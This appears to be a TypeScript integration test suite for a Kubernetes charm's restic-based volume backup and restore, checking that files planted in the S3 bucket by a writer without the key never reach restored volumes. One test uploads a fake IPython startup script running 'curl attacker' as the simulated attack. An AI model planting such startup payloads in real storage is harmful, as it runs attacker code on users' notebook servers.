// Volume data in restic repositories through the real ./dispatch (volume-mover-engine=restic, an encryption key),
// on the simulated kubelet (which runs the restic image's container with Debian's restic) and s3rver (which decodes
// restic's aws-chunked uploads as S3 does). The attacks of a bucket writer without the key, as tests: files added or
// overwritten in the backup's folder never reach a PVC, and neither do files changed between the restore's checks and
// the mover; a backup made by the plain-file mover stays restorable.
import { expect } from 'chai';
import { randomBytes } from 'node:crypto';
import { mkdirSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { GetObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { ensureCharmBuilt } from '../support/juju/charm-build.ts';
import { runDispatch, type DispatchOutcome } from '../support/juju/harness.ts';
import { s3Relation, track1Data } from '../support/juju/scenarios.ts';
import { emptyState } from '../support/juju/state.ts';
import { startS3Server, type S3ServerHandle } from '../support/s3/server.ts';
import { clockPastSecondOf } from '../support/backup-ids.ts';
import { hashTree, startKubeletCluster, type KubeletCluster } from '../volumes/helpers.ts';
import type { VolumeEntry } from '../../src/archive/manifest.ts';

const BUCKET = 'restic-volumes';
const PVCS = { group: '', resource: 'persistentvolumeclaims' };
const KEY_SECRET = 'secret:cta0resticvolumekey0000001';
const KEY = 'the operator passphrase';

describe('volume data in restic repositories (real ./dispatch, volume-mover-engine=restic)', function () {
  this.timeout(300_000);
  let charmDir: string;
  let s3: S3ServerHandle;
  let source: KubeletCluster;
  let client: S3Client;
  let namespace: string;
  let pvc: string;
  let volume: string;
  let lastBackupId: string | undefined;

  before(async () => {
    [charmDir, s3, source] = await Promise.all([ensureCharmBuilt(), startS3Server({ buckets: [BUCKET] }), startKubeletCluster({ profiles: 1, seed: 31 })]);
    const claim = source.cluster.api.list(PVCS).find((p) => p.metadata.namespace !== 'kubeflow')!;
    namespace = claim.metadata.namespace!;
    pvc = claim.metadata.name!;
    volume = source.kubelet.volumePath(namespace, pvc);
    writeFileSync(join(volume, 'weights.bin'), randomBytes(300_000));
    writeFileSync(join(volume, 'analysis.ipynb'), JSON.stringify({ cells: [{ source: 'print("secret research")' }] }));
    client = new S3Client({ endpoint: s3.endpoint, region: 'us-east-1', forcePathStyle: true, credentials: { accessKeyId: s3.accessKeyId, secretAccessKey: s3.secretAccessKey } });
  });
  after(async () => {
    client?.destroy();
    await Promise.all([s3?.stop(), source?.stop()]);
  });

  function action(name: string, params: Record<string, unknown>, side: KubeletCluster, engine: 'rclone' | 'restic' = 'restic'): Promise<DispatchOutcome> {
    const state = emptyState({
      relations: [s3Relation(track1Data(s3, BUCKET))], actionParams: params,
      config: { 'restore-wait-timeout': 60, 'volume-mover-engine': engine, 'encryption-key': KEY_SECRET },
    });
    state.secrets[KEY_SECRET] = { revisions: [{ key: KEY }] };
    return runDispatch(charmDir, state, { event: `actions/${name}`, env: { KUBECONFIG: side.cluster.kubeconfigPath } });
  }

  async function backup(engine: 'rclone' | 'restic' = 'restic'): Promise<string> {
    await clockPastSecondOf(lastBackupId);
    const done = await action('backup-state', { 'include-control-plane': false }, source, engine);
    expect(done.state.actionFailure, done.stderr.slice(-2000)).to.equal(undefined);
    lastBackupId = done.state.actionResults['backup-id']!;
    return lastBackupId;
  }

  async function entry(id: string): Promise<VolumeEntry> {
    const body = await (await client.send(new GetObjectCommand({ Bucket: BUCKET, Key: `backups/backups/${id}/kubeflow-upgrader.json` }))).Body!.transformToString();
    return (JSON.parse(body) as { volumes: VolumeEntry[] }).volumes.find((v) => v.namespace === namespace && v.pvc === pvc)!;
  }

  async function restoreInto(id: string, engine: 'rclone' | 'restic' = 'restic'): Promise<Map<string, string>> {
    const target = await startKubeletCluster({ profiles: 0, seed: 31 });
    try {
      const restored = await action('restore-state', { 'backup-id': id }, target, engine);
      expect(restored.state.actionFailure, restored.stderr.slice(-2000)).to.equal(undefined);
      return hashTree(target.kubelet.volumePath(namespace, pvc));
    } finally {
      await target.stop();
    }
  }

  it('pins the snapshot in the authenticated manifest, and files planted in the backup folder never reach the PVC', async () => {
    const expected = hashTree(volume);
    const id = await backup();
    const pinned = await entry(id);
    expect(pinned.restic?.snapshot).to.match(/^[0-9a-f]{64}$/);
    expect(pinned.restic?.repository).to.equal(`backups/restic/${namespace}`);
    // A bucket writer without the key adds a startup file and overwrites a notebook where the plain-file mover keeps them.
    const folder = `backups/backups/${id}/volumes/${namespace}/${pvc}`;
    await client.send(new PutObjectCommand({ Bucket: BUCKET, Key: `${folder}/.ipython/profile_default/startup/00-evil.py`, Body: 'import os; os.system("curl attacker")' }));
    await client.send(new PutObjectCommand({ Bucket: BUCKET, Key: `${folder}/analysis.ipynb`, Body: '{"cells": [{"source": "attacker"}]}' }));
    const verified = await action('verify-backup', { 'backup-id': id }, source);
    expect(verified.state.actionFailure, JSON.stringify(verified.state.actionResults)).to.equal(undefined);
    expect(verified.state.actionResults['volume-data']).to.equal('restic');
    expect(await restoreInto(id)).to.deep.equal(expected);
  });

  it('finds a change that keeps size and mtime (restic compares ctime and inode too)', async () => {
    const first = await backup();
    const weights = join(volume, 'weights.bin');
    const { atime, mtime } = statSync(weights);
    writeFileSync(weights, randomBytes(300_000));
    utimesSync(weights, atime, mtime);
    const expected = hashTree(volume);
    const second = await backup();
    const [a, b] = [await entry(first), await entry(second)];
    expect(b.restic!.snapshot).to.not.equal(a.restic!.snapshot);
    // one 300 kB file changed: restic added about that much (compressed random data does not shrink)
    expect(b.bytesUploaded).to.be.greaterThan(250_000).and.lessThan(400_000);
    expect(await restoreInto(second)).to.deep.equal(expected);
  });

  it('restores a claim made from a snapshot into a fresh cluster: it goes in without its data source, binds and is filled', async () => {
    // In the source cluster a CSI driver made the claim from a VolumeSnapshot. The simulated provisioner keeps no
    // snapshots (tests/support/kubelet/storage.ts), so the test stands in for that driver: the claim is bound to a
    // volume holding the snapshot's files.
    const claim = source.cluster.api.get(PVCS, pvc, namespace)!;
    source.cluster.api.create(PVCS, {
      apiVersion: 'v1', kind: 'PersistentVolumeClaim', metadata: { name: 'from-snapshot', namespace },
      spec: { ...(claim.spec as object), volumeName: undefined, dataSource: { apiGroup: 'snapshot.storage.k8s.io', kind: 'VolumeSnapshot', name: 'nightly' }, dataSourceRef: { apiGroup: 'snapshot.storage.k8s.io', kind: 'VolumeSnapshot', name: 'nightly' } },
    });
    const made = source.cluster.api.get(PVCS, 'from-snapshot', namespace)!;
    const folder = source.kubelet.volumePath(namespace, 'from-snapshot');
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(folder, 'checkpoint.pt'), randomBytes(50_000));
    source.cluster.api.updateStatus(PVCS, { ...made, status: { phase: 'Bound', capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'] } });
    const expected = hashTree(folder);
    const id = await backup();

    const target = await startKubeletCluster({ profiles: 0, seed: 31 });
    try {
      const restored = await action('restore-state', { 'backup-id': id }, target);
      expect(restored.state.actionFailure, restored.stderr.slice(-2000)).to.equal(undefined);
      const written = target.cluster.api.get(PVCS, 'from-snapshot', namespace)!;
      expect((written.status as { phase?: string }).phase).to.equal('Bound');
      expect(hashTree(target.kubelet.volumePath(namespace, 'from-snapshot'))).to.deep.equal(expected);
      expect(written.spec).to.not.have.any.keys('dataSource', 'dataSourceRef');
      expect(JSON.stringify(restored.state.actionResults)).to.include(`made from a snapshot or another claim were created without that data source and filled from the backup instead: ${namespace}/from-snapshot`);
    } finally {
      await target.stop();
      source.cluster.api.delete(PVCS, 'from-snapshot', namespace);
    }
  });

  it('restores a backup made by the plain-file mover with the restic engine configured', async () => {
    const expected = hashTree(volume);
    const id = await backup('rclone');
    expect((await entry(id)).restic).to.equal(undefined);
    // list and verify say which kind each backup is
    const listed = await action('list-backups', {}, source);
    const results = listed.state.actionResults;
    const kinds = new Map(Object.keys(results).filter((k) => /^backups\.\d+\.id$/.test(k)).map((k) => [results[k], results[k.replace(/id$/, 'volume-data')]]));
    expect(kinds.get(id)).to.equal('files');
    expect([...kinds.values()]).to.include('restic');
    expect((await action('verify-backup', { 'backup-id': id }, source, 'restic')).state.actionResults['volume-data']).to.equal('files');
    expect(await restoreInto(id, 'restic')).to.deep.equal(expected);
  });
});
